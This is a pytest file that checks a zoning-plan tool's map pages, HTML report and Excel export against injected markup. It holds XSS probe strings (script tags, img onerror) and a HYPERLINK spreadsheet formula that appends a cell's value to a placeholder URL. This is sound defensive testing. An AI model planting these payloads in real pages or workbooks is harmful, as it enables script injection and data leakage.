"""Hostile text in a plan runs nothing: map pages and the HTML report in headless Chromium.

A title, a name, a legend entry or a layer name holding markup is shown as text; a dialog
opened by injected script would be recorded (none may open); the pages' Content-Security-Policy
blocks even markup planted into a saved page afterwards; zero console errors, zero requests out.
"""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest

from tests.browser import Opened, wait_until
from tests.plans_maps import layout_plan
from tests.plans_scenario import scenario_plan
from zoneplan import _html
from zoneplan.cli import main
from zoneplan.maps.interactive import make_map, page_html, render_spec, save_map
from zoneplan.maps.kinds import Overlay, landuse_spec

HOSTILE = "</title><script>alert(1)</script>"
SCRIPTED = '"><img src=x onerror=alert(2)><script>alert(3)</script>\u2028<!--'


def _run(args: list[str], capsys) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as done:
        main(args)
    captured = capsys.readouterr()
    return int(done.value.code or 0), captured.out, captured.err


def _hostile_plan():
    plan = layout_plan().with_meta(title=HOSTILE, source=SCRIPTED)
    districts = plan.districts.copy()
    districts["name"] = [SCRIPTED, HOSTILE]
    # the popup under the pointer is the smallest feature's (a park inside the district): hostile too
    parks = plan.parks.copy()
    parks["name"] = [SCRIPTED if i % 2 == 0 else HOSTILE for i in range(len(parks))]
    return plan.with_layer("districts", districts).with_layer("parks", parks)


def test_json_in_script_cannot_end_the_block_and_reads_back_exactly() -> None:
    value = {"t": HOSTILE + SCRIPTED + "&amp;"}
    body = _html.script_json(value)
    assert not re.search("[<>&\u2028\u2029]", body)
    assert json.loads(body) == value


def test_every_page_carries_a_policy_without_unsafe_sources(tmp_path: Path) -> None:
    path = save_map(make_map(_hostile_plan(), kind="layout"), tmp_path / "m.html")
    text = path.read_text(encoding="utf-8")
    head = text[: text.index("<title>")]
    policy = html.unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', head).group(1))
    assert "default-src 'none'" in policy and "unsafe" not in policy and "http" not in policy
    assert re.search(r"script-src( 'sha256-[A-Za-z0-9+/=]+')+;", policy)
    # the title is text inside <title>, nowhere markup
    assert f"<title>{html.escape(HOSTILE)}" in text and HOSTILE not in text
    # a chosen basemap adds exactly its tile servers to img-src, nothing else
    osm = page_html(make_map(layout_plan(), kind="layout", basemap="osm"))
    assert "img-src data: https://tile.openstreetmap.org;" in html.unescape(osm)


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["layout", "landuse", "phases"])
def test_hostile_title_and_names_run_nothing_in_map_pages(browser, tmp_path: Path, capsys, kind: str) -> None:
    plan_path = tmp_path / "hostile.gpkg"
    _hostile_plan().write(plan_path)
    out = tmp_path / f"{kind}.html"
    code, _, err = _run(["map", str(plan_path), "--kind", kind, "-o", str(out)], capsys)
    assert code == 0, err
    opened = Opened(browser, out)
    page = opened.page
    try:
        assert HOSTILE in page.title()
        assert HOSTILE in page.inner_text(".zp-title")
        assert page.locator("script").count() == page.evaluate("document.querySelectorAll('head script, body > script').length")
        assert page.locator(".folium-map script, .folium-map img[src='x']").count() == 0
        if kind == "layout":
            x, y = opened.at("板块 Districts", 0)
            page.mouse.click(x, y)
            page.wait_for_selector(".zp-popup")
            assert SCRIPTED.replace("\u2028", "") in page.locator(".zp-popup").inner_text().replace("\u2028", "")
            assert page.locator(".zp-popup img, .zp-popup script").count() == 0
        assert SCRIPTED.split("\u2028")[0] in page.inner_text(".zp-legend")
        page.wait_for_timeout(300)
    finally:
        page.close()
    assert opened.dialogs == []
    assert opened.errors == [] and opened.external == []


@pytest.mark.browser
def test_layer_names_show_as_text_in_the_layer_control(browser, tmp_path: Path) -> None:
    spec = landuse_spec(layout_plan())
    hostile = Overlay(HOSTILE, spec.overlays[0].data, "#ff0000", fields=spec.overlays[0].fields)
    spec = spec.__class__(**{**spec.__dict__, "overlays": (*spec.overlays, hostile)})
    opened = Opened(browser, save_map(render_spec(spec), tmp_path / "layers.html"))
    page = opened.page
    try:
        labels = page.locator(".leaflet-control-layers-overlays label").all_inner_texts()
        assert any(HOSTILE in label for label in labels)
        assert page.locator(".leaflet-control-layers script").count() == 0
    finally:
        page.close()
    assert opened.dialogs == [] and opened.errors == []


@pytest.mark.browser
def test_markup_planted_into_a_saved_page_is_blocked_by_its_policy(browser, tmp_path: Path) -> None:
    path = save_map(make_map(layout_plan(), kind="layout"), tmp_path / "planted.html")
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("<body>", "<body><script>alert('planted')</script><img src=x onerror=\"alert('img')\">", 1), encoding="utf-8")
    opened = Opened(browser, path)
    page = opened.page
    page.wait_for_timeout(300)
    page.close()
    assert opened.dialogs == []
    # the only errors are the policy refusing the two planted pieces; the map itself still drew
    assert opened.errors and all("Content Security Policy" in e for e in opened.errors)


@pytest.mark.browser
def test_hostile_title_runs_nothing_in_the_report_and_its_maps(browser, tmp_path: Path, capsys) -> None:
    plan_path = tmp_path / "hostile.gpkg"
    plan = scenario_plan()
    plan.with_meta(title=HOSTILE, source=SCRIPTED).write(plan_path)
    out = tmp_path / "report.html"
    code, _, err = _run(["report", str(plan_path), "-o", str(out)], capsys)
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    frames = re.findall(r"<iframe\b[^>]*>", text)
    assert frames and all(' sandbox="allow-scripts" ' in f and "allow-same-origin" not in f for f in frames)
    opened = Opened(browser, out, ready=None, viewport={"width": 1280, "height": 900})
    page = opened.page
    try:
        assert HOSTILE in page.title()
        assert HOSTILE in page.inner_text("h1")
        maps = page.frames[1:]
        assert len(maps) == len(frames) >= 2
        for frame in maps:
            # (an iframe out of view gets no animation frames, so wait for the drawn canvas, not "ready")
            wait_until(frame, "typeof ZP === 'object' && ZP.maps.length === 1 && document.querySelector('.leaflet-overlay-pane canvas') !== null", timeout_s=15)
            assert HOSTILE in frame.inner_text(".zp-title")
        page.wait_for_timeout(300)
    finally:
        page.close()
    assert opened.dialogs == []
    assert opened.errors == [] and opened.external == []


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path: Path) -> None:
    import openpyxl
    import pandas as pd

    from zoneplan.report import write_excel

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"点击 click")'
    out = write_excel({"sources": pd.DataFrame({"topic": ["plan"], "text": [formula], "n": [3]})}, tmp_path / "r.xlsx")
    cell = openpyxl.load_workbook(out)["sources"]["B2"]
    assert cell.value == formula and cell.data_type == "s"
    assert openpyxl.load_workbook(out)["sources"]["C2"].value == 3
